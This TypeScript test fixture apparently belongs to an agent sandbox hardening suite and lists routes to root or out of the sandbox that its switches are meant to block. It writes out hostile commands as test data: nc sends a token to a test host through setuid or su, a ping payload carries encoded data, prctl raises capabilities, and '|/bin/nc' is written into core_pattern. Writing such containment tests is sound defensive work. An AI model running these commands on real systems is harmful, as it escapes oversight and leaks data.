import type { Row } from '../case.ts'
import { elsewhere, python } from './script.ts'

const by = 'connect: no rule is about a uid'
const twin = python('tcp(WHERE4)')
const asRoot = '$PROGRAMS/root'

/** Roads to root or out of the scope, which the switches shut; each was open before, in the same test. */
const roads = [
  'sudo',
  'sudo to another user’s shell',
  'sudo with a password on standard input',
  'doas',
  'su',
  'pkexec',
  'setuid copy made earlier',
  'copy with file capabilities',
  'preload into a setuid program',
  'docker group, the engine’s socket',
  'group taken again by sg or newgrp',
  'containerd’s socket',
  'engine at an unusual place',
  'user’s own engine',
  'what was left to cron and at before',
] as const

export const privileges: Row = {
  row: 29,
  title: 'More privileges',
  cases: [
    ...roads.map((what, index) =>
      elsewhere(
        [`road-${index + 1}`, what, '`disable-sudo`, `disable-sudo-and-containers`'],
        'packages/agent/test/harden/hardened.root.test.ts',
        ['user'],
      ),
    ),
    {
      id: 'setuid-connect',
      technique: 'setuid-root program that connects',
      as: ['user'],
      attempt: '$PROGRAMS/act-root tcp $D4 8080 | tee /dev/stderr | grep -q "^ok"',
      twin: '$PROGRAMS/act-root tcp $D4 8080',
      by,
    },
    {
      id: 'setuid-shell',
      technique: 'setuid-root program that runs a command as root (as sudo does)',
      as: ['user'],
      attempt: `${asRoot} nc -N -w 3 $D4 8080 <<<"$T"`,
      twin: `${asRoot} nc -N -w 3 $D4 8080 <<<"$T"`,
      by,
    },
    {
      id: 'setuid-raw',
      technique: 'raw socket as root by a setuid program',
      as: ['user'],
      attempt: `${asRoot} $ACT raw-header $D4 8080 | tee /dev/stderr | grep -q '^ok'`,
      twin,
      by: 'socket, capability: taken out of the bounding set',
    },
    {
      id: 'su',
      technique: 'su to root',
      as: ['user'],
      attempt: `su -c 'nc -N -w 3 $D4 8080 <<<$T' root </dev/null`,
      twin,
      cannot: 'it asks for a password',
      by: 'su itself',
      silent: 'nothing was done',
    },
    {
      id: 'file-capability',
      technique: 'program with the file capability cap_net_raw (a ping of Debian’s)',
      as: ['user'],
      attempt:
        'timeout 5 /usr/bin/ping -c 1 -W 1 -p "$(printf %s "$T" | od -An -tx1 | tr -d " \\n")" $D4; exit 9',
      twin,
      by: 'capability: the program is not started',
      silent: 'the kernel refuses the exec',
    },
    {
      id: 'ambient-capability',
      technique: 'ambient and inheritable capabilities (capsh’s way, by prctl)',
      as: ['root'],
      attempt: python(`
libc = ctypes.CDLL(None, use_errno=True)
print(libc.prctl(47, 2, 13, 0, 0), ctypes.get_errno())
made(kind=socket.SOCK_RAW, protocol=17).sendto(datagram(), (D4, 0))`),
      twin,
      by: 'socket, capability',
    },
    {
      id: 'keyring-upcall',
      impossible: true,
      technique: 'kernel upcall that looks a name up for the job (request-key, dns_resolver)',
      attempt: python(`
libc = ctypes.CDLL(None, use_errno=True)
found = libc.syscall(249, b'dns_resolver', HOST.encode(), b'', -2 & 0xffffffff)
raise SystemExit(9 if found < 0 else 0)`),
      twin: python('ask(query(HOST))'),
      cannot: 'these machines have no helper for it',
      by: 'the kernel: no helper',
      silent: 'nothing was done',
    },
    {
      id: 'core-pattern',
      technique: 'helper that the kernel starts outside (core_pattern, modprobe path)',
      as: ['user'],
      attempt: `for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug; do echo '|/bin/nc' >$file; done; exit 9`,
      twin,
      cannot: 'the files are root’s',
      by: 'the kernel: permission denied',
      silent: 'nothing was done',
    },
  ],
}
